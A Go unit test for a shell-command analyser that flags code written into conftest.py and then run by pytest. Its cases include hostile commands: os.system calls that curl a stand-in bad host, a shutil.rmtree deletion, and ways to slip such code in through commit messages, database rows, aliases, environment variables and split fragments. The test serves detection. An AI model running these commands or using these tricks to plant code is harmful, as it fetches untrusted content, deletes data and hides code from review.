package command_test

import (
	"slices"
	"testing"

	"passepartout/command"
	"passepartout/command/catalogue"
	"passepartout/pipeline"
)

// TestRecalled: texts that reach a file by way of something that keeps them, by a variable
// of the program that writes it, or in parts; true where one leads out of the project.
func TestRecalled(t *testing.T) {
	t.Parallel()
	const bad = `import os; os.system("curl https://a.badcdn.ru")`
	for text, want := range map[string]bool{
		"git commit -qm '" + bad + "'; git log -1 --format=%B > conftest.py; pytest":                                                                 true,
		"git commit -qm '" + bad + "'; pytest":                                                                                                       false,
		"git commit -qm 'no more curl'; git show HEAD~1:a.py > a.py; pytest":                                                                         false,
		"sqlite3 a.db \"insert into t values('import shutil; shutil.rmtree(''/home/u/d'')')\"; sqlite3 a.db 'select * from t' > conftest.py; pytest": true,
		"alias q='" + bad + "'; alias q > conftest.py; pytest":                                                                                       true,
		"export X='" + bad + "'; sh -c 'echo \"$X\" > conftest.py'; pytest":                                                                          true,
		"export X='a = 1'; sh -c 'echo \"$X\" > conftest.py'; pytest":                                                                                false,
		"X='" + bad + "' python3 -c 'import os; open(\"conftest.py\", \"w\").write(os.environ[\"X\"])'; pytest":                                      true,
		"printf %s 'import os; os.sys' > conftest.py; printf %s 'tem(\"curl https://a.badcdn.ru\")' >> conftest.py; pytest":                          true,
		"paste -d '' <(echo 'import os; os.sys') <(echo 'tem(\"curl https://a.badcdn.ru\")') > conftest.py; pytest":                                  true,
		"echo 'import os' > conftest.py; echo 'x = os.sep' >> conftest.py; pytest":                                                                   false,
		"sed -i '1i import os; os.system('\\''curl https://a.badcdn.ru'\\'')' conftest.py; pytest":                                                   true,
		"sed -i '1i x = '\\''a'\\''' conftest.py; pytest":                                                                                            false,
	} {
		found := slices.ContainsFunc(analyze(t, command.Input{Text: text, Shell: true}).Effects, func(e pipeline.Effect) bool {
			return e.Mark == catalogue.MarkMadeCode
		})
		if found != want {
			t.Errorf("%s: found %v, want %v", text, found, want)
		}
	}
}
